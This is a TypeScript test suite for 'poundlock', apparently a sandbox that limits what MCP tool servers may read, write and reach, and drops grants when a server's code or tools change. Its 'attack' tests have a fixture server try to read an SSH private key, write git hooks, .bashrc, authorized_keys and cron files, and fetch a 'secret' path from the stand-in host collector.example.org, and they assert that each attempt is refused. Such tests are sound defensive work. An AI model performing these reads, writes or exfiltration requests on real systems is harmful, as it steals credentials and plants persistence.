import { existsSync, globSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { createRequire } from 'node:module'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, onTestFinished, test } from 'vitest'
import { openScene, type Scene } from '../poundlock.ts'

const NEEDY = fileURLToPath(new URL('../fixtures/needy-server.mjs', import.meta.url))
const require = createRequire(import.meta.url)
const published = (name: string) => require.resolve(`@modelcontextprotocol/server-${name}/dist/index.js`)

interface Needy extends Scene {
  /** One call of its tool: the text of the result. */
  readonly does: (what: string, at: string) => Promise<string>
  readonly needs: () => Promise<any>
  readonly grant: () => Promise<{ readonly code: number | undefined; readonly all: string }>
  readonly home: string
}

function openNeedy(args: readonly string[] = [], server: object = {}, config: object = {}): Needy {
  const scene = openScene()
  const home = join(scene.root, 'home')
  mkdirSync(join(home, '.ssh'), { recursive: true })
  writeFileSync(join(home, '.ssh/id_ed25519'), 'the key')
  const needy = { command: process.execPath, args: [NEEDY, ...args], ...server }
  scene.configure({ mode: 'allow', mcpServers: { needy }, ...config })
  const run = (words: readonly string[]) => scene.run(words, { env: { HOME: home } })
  return {
    ...scene,
    home,
    run,
    async does(what, at) {
      // The place is no input that the policy reads: what holds is the manifest.
      const { stdout, stderr } = await run(['mcp', 'call', 'needy', 'do', '--json', JSON.stringify({ what, at })])
      return stdout + stderr
    },
    needs: async () => (await run(['mcp', 'needs', 'needy', '--json'])).json(),
    async grant() {
      const { code, stdout, stderr } = await run(['mcp', 'trust', 'needy', '--needs', '--yes'])
      return { code, all: stdout + stderr }
    },
  }
}

const inputs = { inputs: { do: { at: 'none', what: 'none' } } }

async function openSink() {
  const arrived: string[] = []
  const server = createServer((request, response) => {
    arrived.push(request.url!)
    response.end('hello')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => void server.close())
  return { arrived, port: (server.address() as AddressInfo).port }
}

describe('a server that says nothing about a sandbox', () => {
  test('reads the workspace and writes its own folder alone; what else it wants is shown, and granted by a person', async () => {
    const scene = openNeedy([], inputs)
    const outside = join(scene.root, 'notes')
    mkdirSync(outside)
    writeFileSync(join(outside, 'a.txt'), 'a note')
    writeFileSync(join(scene.workspace, 'in.txt'), 'inside')
    expect(await scene.does('read', join(scene.workspace, 'in.txt'))).toContain('done: inside')
    const refused = await scene.does('read', join(outside, 'a.txt'))
    expect(refused).not.toContain('a note')
    expect(refused).toContain(`read ${outside}/a.txt`)
    expect(refused).toContain('poundlock mcp trust needy --needs')
    expect(await scene.does('write', join(outside, 'b.txt'))).toContain('MCP_TOOL_ERROR')
    expect(await scene.does('write', join(scene.workspace, 'b.txt'))).toContain('MCP_TOOL_ERROR')
    expect(existsSync(join(scene.workspace, 'b.txt'))).toBe(false)
    expect(await scene.needs()).toMatchObject({
      granted: { readPaths: [], writePaths: [], hosts: [] },
      wanted: { readPaths: [outside], writePaths: [scene.workspace] },
    })
    expect((await scene.run(['mcp', 'list'])).stdout).toContain('asks for access that it does not have')

    const asked = await scene.run(['mcp', 'trust', 'needy', '--needs'])
    expect(asked.code, 'without a terminal and --yes').not.toBe(0)
    expect(asked.stdout).toContain(`read ${outside}`)
    expect(await scene.does('read', join(outside, 'a.txt'))).toContain('MCP_TOOL_ERROR')
    expect(await scene.grant()).toMatchObject({ code: 0, all: expect.stringContaining(`read ${outside}`) })
    expect(await scene.does('read', join(outside, 'a.txt'))).toContain('a note')
    // Behind one refusal there may be another.
    expect(await scene.does('write', join(outside, 'b.txt'))).toContain(`write ${outside}`)
    expect(await scene.grant()).toMatchObject({ code: 0, all: expect.stringContaining(`write ${outside}`) })
    expect(await scene.does('write', join(outside, 'b.txt'))).toContain('done')
    expect(readFileSync(join(outside, 'b.txt'), 'utf8')).toBe('written')
    expect(await scene.needs()).toMatchObject({ wanted: { readPaths: [], writePaths: [], hosts: [] } })
    expect((await scene.run(['mcp', 'trust', 'needy', '--needs', '--revoke'])).code).toBe(0)
    expect(await scene.does('write', join(outside, 'c.txt'))).toContain('MCP_TOOL_ERROR')
    expect(existsSync(join(outside, 'c.txt'))).toBe(false)
  })

  test('keeps its own folder between runs', async () => {
    const scene = openNeedy([], inputs)
    const { home } = await scene.needs()
    expect(await scene.does('variable', 'HOME')).toContain(`done: ${home}`)
    expect(await scene.does('write', join(home, 'kept'))).toContain('done')
    expect(await scene.does('read', join(home, 'kept'))).toContain('done: written')
    expect(await scene.needs()).toMatchObject({ programs: expect.arrayContaining(['node']), variables: [] })
  })

  test('attack: reads keys, writes protected paths, and neither can be granted', async () => {
    const scene = openNeedy([], inputs)
    const key = join(scene.home, '.ssh/id_ed25519')
    mkdirSync(join(scene.workspace, '.git/hooks'), { recursive: true })
    const hook = join(scene.workspace, '.git/hooks/pre-commit')
    for (const place of [key, join(scene.state, 'poundlock.json')]) {
      expect(await scene.does('read', place)).not.toMatch(/the key|mcpServers/)
    }
    for (const place of [
      hook,
      join(scene.home, '.bashrc'),
      join(scene.home, '.ssh/authorized_keys'),
      '/etc/cron.d/x',
    ]) {
      expect(await scene.does('write', place), place).toContain('MCP_TOOL_ERROR')
    }
    await scene.grant()
    const { granted } = await scene.needs()
    expect(granted).toEqual({ readPaths: [], writePaths: [], hosts: [] })
    expect(await scene.does('read', key)).not.toContain('the key')
    expect(await scene.does('write', hook)).toContain('MCP_TOOL_ERROR')
    expect(existsSync(hook)).toBe(false)
    expect(readdirSync(scene.home)).toEqual(['.ssh'])
  })

  test('attack: connects elsewhere; a host is noted, and one of this machine is not', async () => {
    const scene = openNeedy([], inputs)
    const sink = await openSink()
    expect(await scene.does('get', `http://127.0.0.1:${sink.port}/secret`)).toContain('MCP_TOOL_ERROR')
    const refused = await scene.does('get', 'https://collector.example.org/secret')
    expect(refused).toContain('reach collector.example.org:443')
    expect(sink.arrived).toEqual([])
    expect((await scene.needs()).wanted.hosts).toEqual(['collector.example.org:443'])
  })

  test.each([
    ['allowlist', { sandbox: { network: 'allowlist', egress: ['collector.example.org'] } }],
    ['on', { sandbox: { network: 'on' } }],
  ])('has not the hosts of commands, whose network is %s', async (_name, config) => {
    const scene = openNeedy([], inputs, config)
    expect(await scene.does('get', 'https://collector.example.org/')).toContain('reach collector.example.org:443')
  })
})

describe('a grant belongs to one program, with its tools', () => {
  async function openGranted() {
    const tools = [
      {
        name: 'do',
        description: 'Does it.',
        inputSchema: { type: 'object', properties: { what: { type: 'string' }, at: { type: 'string' } } },
        annotations: { readOnlyHint: true, openWorldHint: false },
      },
    ]
    const scene = openNeedy()
    const folder = join(scene.root, 'server')
    const outside = join(scene.root, 'notes')
    for (const made of [folder, outside]) mkdirSync(made)
    const write = (name: string, content: string) => writeFileSync(join(folder, name), content)
    mkdirSync(join(folder, 'node_modules/needed'), { recursive: true })
    write('server.mjs', `import './lib.mjs'\nimport 'needed'\n${readFileSync(NEEDY, 'utf8').replace(/^#!.*/, '')}`)
    write('lib.mjs', 'export const one = 1\n')
    write('node_modules/needed/index.js', 'module.exports = 1\n')
    write('package.json', JSON.stringify({ name: 'needy', version: '1.0.0', dependencies: { needed: '1' } }))
    write('tools.json', JSON.stringify(tools))
    const server = {
      command: process.execPath,
      args: [join(folder, 'server.mjs'), 'needy-package'],
      ...inputs,
    }
    // The file of the tools is not on the command line: it would be part of the program.
    const env = { NEEDY_TOOLS: join(folder, 'tools.json') }
    const configure = (more: { readonly env?: object } = {}) =>
      scene.configure({ mode: 'allow', mcpServers: { needy: { ...server, env: { ...env, ...more.env } } } })
    configure()
    // The first round is to see the folder, the second to write it.
    for (let round = 0; round < 2; round++) {
      await scene.does('write', join(outside, 'a'))
      await scene.grant()
    }
    expect(await scene.does('write', join(outside, 'a'))).toContain('done')
    return { ...scene, write, configure, tools, outside }
  }

  test.each<readonly [string, (scene: Awaited<ReturnType<typeof openGranted>>) => void, RegExp]>([
    [
      'another version of its package',
      ({ write }) => write('package.json', JSON.stringify({ name: 'needy', version: '1.0.1', type: 'module' })),
      /changed from .*needy@1\.0\.0 to .*needy@1\.0\.1/,
    ],
    [
      'another content of its script',
      ({ write }) => write('server.mjs', `${readFileSync(NEEDY, 'utf8')}\n// and more\n`),
      /code has changed, in .*\/server$/,
    ],
    [
      'another content of a file that its script imports',
      ({ write }) => write('lib.mjs', 'export const one = 2\n'),
      /code has changed, in .*\/server$/,
    ],
    [
      'another content of a package that its package depends on',
      ({ write }) => write('node_modules/needed/index.js', 'module.exports = 2\n'),
      /code has changed, in .*\/server\/node_modules\/needed$/,
    ],
    ['another variable', ({ configure }) => configure({ env: { EXTRA: '1' } }), /program has changed/],
    ['another version, by its own word', ({ configure }) => configure({ env: { NEEDY_VERSION: '2' } }), /changed/],
    [
      'another release of a package that npx fetched',
      ({ root }) => {
        const [home = ''] = globSync('**/needy-*/home', { cwd: root })
        const fetched = join(root, home, '.npm/_npx/1')
        mkdirSync(fetched, { recursive: true })
        writeFileSync(join(fetched, 'package.json'), JSON.stringify({ _npx: { packages: ['needy-package'] } }))
      },
      /its packages have changed/,
    ],
    [
      'a tool that changes after the pin',
      ({ write, tools }) => write('tools.json', JSON.stringify([{ ...tools[0], description: 'Sends it, too.' }])),
      /its tools, its version or its packages have changed/,
    ],
    [
      'a tool that comes after the pin',
      ({ write, tools }) => write('tools.json', JSON.stringify([...tools, { ...tools[0], name: 'more' }])),
      /its tools, its version or its packages have changed/,
    ],
  ])('%s drops it', async (_name, change, reason) => {
    const scene = await openGranted()
    change(scene)
    await scene.run(['mcp', 'tools', 'needy', '--refresh'])
    const { granted, wanted, dropped } = await scene.needs()
    expect(granted.writePaths).toEqual([])
    expect(wanted.writePaths).toContain(scene.outside)
    expect(dropped).toMatch(reason)
    await scene.run(['mcp', 'trust', 'needy'])
    expect(await scene.does('write', join(scene.outside, 'b'))).toContain('MCP_TOOL_ERROR')
    expect(existsSync(join(scene.outside, 'b'))).toBe(false)
    expect((await scene.run(['mcp', 'list'])).stdout).toContain('its grant no longer counts')
  })
})

describe('servers of the registry', () => {
  const open = (servers: object) => {
    const scene = openScene()
    scene.configure({ mode: 'allow', mcpServers: servers })
    return scene
  }
  const call = async (scene: Scene, server: string, tool: string, input: object) => {
    const { stdout, stderr } = await scene.run(['mcp', 'call', server, tool, '--json', JSON.stringify(input)])
    return stdout + stderr
  }
  const server = (name: string, ...args: string[]) => ({
    command: process.execPath,
    args: [published(name), ...args],
    permissions: { '*': 'read-only' },
  })

  test('everything works without a grant', async () => {
    const scene = open({ everything: server('everything') })
    expect(await call(scene, 'everything', 'echo', { message: 'hi' })).toContain('Echo: hi')
    const needs = (await scene.run(['mcp', 'needs', 'everything', '--json'])).json()
    expect(needs.wanted).toEqual({ readPaths: [], writePaths: [], hosts: [] })
    expect(needs.packages.join()).toMatch(/@modelcontextprotocol\/server-everything@\d/)
  })

  test('filesystem writes the workspace once that is granted, and what is protected there never', async () => {
    const scene = openScene()
    mkdirSync(join(scene.workspace, '.git/hooks'), { recursive: true })
    const fs = { ...server('filesystem', scene.workspace), inputs: { '*': { path: 'none', content: 'none' } } }
    scene.configure({ mode: 'allow', mcpServers: { fs } })
    const write = (path: string) =>
      call(scene, 'fs', 'write_file', { path: join(scene.workspace, path), content: 'one' })
    expect(await write('a.txt')).toContain('trust fs --needs')
    expect(existsSync(join(scene.workspace, 'a.txt'))).toBe(false)
    expect((await scene.run(['mcp', 'needs', 'fs'])).stdout).toContain(`write ${scene.workspace}`)
    expect((await scene.run(['mcp', 'trust', 'fs', '--needs', '--yes'])).code).toBe(0)
    await write('a.txt')
    expect(readFileSync(join(scene.workspace, 'a.txt'), 'utf8')).toBe('one')
    await write('.git/hooks/pre-commit')
    expect(readdirSync(join(scene.workspace, '.git/hooks'))).toEqual([])
  })

  test('memory keeps its graph in the folder that its variable names, once it is granted', async () => {
    const folder = join(openScene().root, 'memory')
    mkdirSync(folder)
    const file = join(folder, 'graph.jsonl')
    const scene = open({ memory: { ...server('memory'), env: { MEMORY_FILE_PATH: file } } })
    const entities = [{ name: 'lock', entityType: 'thing', observations: ['has two gates'] }]
    expect(await call(scene, 'memory', 'create_entities', { entities })).toContain('trust memory --needs')
    expect(existsSync(file)).toBe(false)
    expect((await scene.run(['mcp', 'trust', 'memory', '--needs', '--yes'])).code).toBe(0)
    await call(scene, 'memory', 'create_entities', { entities })
    expect(readFileSync(file, 'utf8')).toContain('two gates')
  })
})
